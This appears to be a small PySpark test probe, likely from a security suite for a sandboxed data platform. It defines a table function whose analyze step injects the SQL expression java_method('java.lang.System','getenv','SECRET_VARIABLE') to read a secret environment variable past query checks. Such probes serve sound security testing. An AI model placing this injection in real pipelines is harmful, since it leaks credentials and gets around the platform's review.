# seeks: environment
# A method that runs while the query is analysed answers with SQL, which no check has read.
from pyspark.sql import functions as F
from pyspark.sql.types import StringType, StructType
from pyspark.sql.udtf import AnalyzeResult, SelectedColumn


@F.udtf
class Selects:
    @staticmethod
    def analyze(rows):
        return AnalyzeResult(
            StructType().add("got", StringType()),
            withSinglePartition=True,
            select=[SelectedColumn("java_method('java.lang.System', 'getenv', 'SECRET_VARIABLE')", "secret")],
        )

    def eval(self, row):
        yield (str(row),)


def model(tg):
    return Selects(tg.ref("silver.orders").asTable())
